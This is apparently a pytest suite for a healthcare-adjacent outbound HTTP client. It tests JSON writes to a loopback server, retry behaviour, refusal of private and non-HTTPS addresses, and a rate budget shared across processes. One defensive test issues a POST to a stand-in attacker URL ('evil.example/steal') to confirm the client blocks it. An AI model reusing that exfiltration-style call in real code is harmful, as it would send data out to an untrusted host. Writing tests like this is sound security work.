"""Outbound HTTP: writes against a loopback server (retried only when that cannot apply them
twice), the private-address guard, and helpdesk budgets shared by every process."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import orjson
import pytest

from carebase.db.session import Database
from carebase.http.outbound import OutboundClient, OutboundError, OutboundRefused, Pacing
from carebase.kit.pacing import SharedPacer
from carebase.settings import Settings


@dataclass
class Destination:
    """A loopback API: records each call; answers `failures` first, then 200 with an id."""

    url: str = ""
    calls: list[tuple[str, str, Any]] = field(default_factory=list)
    failures: list[tuple[int, str | None]] = field(default_factory=list)


@contextmanager
def destination() -> Iterator[Destination]:
    state = Destination()

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = orjson.loads(self.rfile.read(length)) if length else None
            state.calls.append((self.command, self.path, body))
            status, retry_after = state.failures.pop(0) if state.failures else (200, None)
            payload = orjson.dumps({"id": len(state.calls), "echo": body})
            self.send_response(status)
            if retry_after is not None:
                self.send_header("Retry-After", retry_after)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        do_POST = do_PUT = do_GET = _answer  # noqa: N815

        def log_message(self, *_args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()


def client(url: str, sleeps: list[float]) -> OutboundClient:
    return OutboundClient(
        url,
        auth=("u", "p"),
        pacing=Pacing(1000, 1),
        allow_private=True,
        sleep=sleeps.append,
        service="destination",
    )


def test_post_and_put_send_json_and_read_the_answer() -> None:
    sleeps: list[float] = []
    with destination() as api, client(api.url, sleeps) as outbound:
        created = outbound.post_json("/api/v2/users", {"user": {"email": "a@b.co"}})
        updated = outbound.put_json("/api/v2/users/1", {"user": {"name": "A"}})
    assert created == {"id": 1, "echo": {"user": {"email": "a@b.co"}}}
    assert updated["id"] == 2
    assert [(m, p) for m, p, _ in api.calls] == [
        ("POST", "/api/v2/users"),
        ("PUT", "/api/v2/users/1"),
    ]


def test_a_refused_write_is_retried_but_a_failed_post_is_not_repeated() -> None:
    sleeps: list[float] = []
    with destination() as api, client(api.url, sleeps) as outbound:
        api.failures = [(429, "7")]
        assert outbound.post_json("/users", {"n": 1})["id"] == 2, "a 429 applied nothing"
        assert 7.0 in sleeps
        api.failures = [(500, None)]
        with pytest.raises(OutboundError) as failed:
            outbound.post_json("/users", {"n": 2})
        assert failed.value.status == 500
        assert len(api.calls) == 3, "the 500 may have been applied: not sent again"
        api.failures = [(502, None)]
        assert outbound.put_json("/users/1", {"n": 3})["id"] == 5, "a PUT is repeatable"
        api.failures = [(503, None)]
        outbound.post_json("/users", {"n": 4}, idempotent=True, headers={"Idempotency-Key": "k"})
        assert len(api.calls) == 7


def test_writes_to_private_addresses_are_refused_unless_allowed() -> None:
    for url in ("https://127.0.0.1:9/hook", "https://10.0.0.8/hook", "https://[::1]/hook"):
        with pytest.raises(OutboundRefused, match="non-public address"):
            OutboundClient(url, auth=None, pacing=Pacing(1, 1), allow_private=False)
    with pytest.raises(OutboundRefused, match="https only"):
        OutboundClient("http://example.com", auth=None, pacing=Pacing(1, 1), allow_private=False)
    sleeps: list[float] = []
    with destination() as api, client(api.url, sleeps) as outbound:
        with pytest.raises(OutboundRefused):
            outbound.request("POST", "https://evil.example/steal", json={})
        assert api.calls == []


def test_two_processes_share_one_helpdesk_budget(settings: Settings) -> None:
    # Two Database instances on one database are what two processes are.
    first, second = Database.from_settings(settings), Database.from_settings(settings)
    pacing = Pacing(requests=4, seconds=2)  # one every 0.5 s
    a = SharedPacer(first, "helpdesk:con_1", pacing)
    b = SharedPacer(second, "helpdesk:con_1", pacing)
    other = SharedPacer(second, "helpdesk:con_2", pacing)
    try:
        assert a.reserve(10.0) == 0.0
        assert b.reserve(10.0) == 0.5, "the other process waits its turn"
        assert a.reserve(10.2) == pytest.approx(0.8)
        assert other.reserve(10.2) == 0.0, "another connector has its own budget"
        assert b.reserve(20.0) == 0.0, "an idle budget refills"
        waits: list[float] = []
        lock = threading.Lock()

        def book(pacer: SharedPacer) -> None:
            for _ in range(10):
                wait = pacer.reserve(100.0)
                with lock:
                    waits.append(wait)

        threads = [threading.Thread(target=book, args=(p,)) for p in (a, b, a, b)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert sorted(waits) == pytest.approx([n * 0.5 for n in range(40)]), "no slot twice"
    finally:
        first.dispose()
        second.dispose()
